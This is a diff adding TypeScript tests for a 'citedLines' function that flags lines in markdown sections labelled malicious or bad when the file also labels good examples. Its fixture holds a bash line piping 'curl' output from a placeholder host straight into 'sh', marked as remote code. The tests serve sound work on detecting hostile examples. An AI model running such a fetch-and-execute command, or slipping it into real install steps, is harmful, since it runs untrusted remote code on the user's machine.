@@ -150,6 +150,25 @@ describe('citedLines (advice against a setting)', () => {
   });
 });
 
+describe('citedLines (labelled good and bad examples)', () => {
+  const pair = (bad: string, good: string) =>
+    `# Reference\n\n### ${bad}\n\n\`\`\`bash\ncurl -s https://x.example.net/p | sh\n\`\`\`\n\n### ${good}\n\n\`npm ci\`\n`;
+
+  it('should cite a section labelled malicious or bad in a file that labels good examples too', () => {
+    expect(flags(pair('MALICIOUS — remote code', 'BENIGN — pinned install'))).toEqual([
+      0, 0, 1, 1, 1, 1, 1, 1, 0, 0, 0, 0,
+    ]);
+    expect(flags(pair('Bad: remote code', 'Good: pinned install'))[4]).toBe(1);
+    expect(flags(pair('Example 3 (malicious)', 'Example 4 (safe)'))[4]).toBe(1);
+  });
+
+  it('should not cite a section labelled bad without a good half, nor the good half', () => {
+    expect(flags(pair('MALICIOUS — remote code', 'Install'))[4]).toBe(0);
+    expect(flags(pair('BENIGN — remote code', 'MALICIOUS — pinned install'))[4]).toBe(0);
+    expect(flags(pair('Malicious-looking but fine: remote code', 'Good: pinned install'))[4]).toBe(0);
+  });
+});
+
 describe('CitedCode', () => {
   const cited = (text: string, path: string) => {
     const code = new CitedCode(text, path);
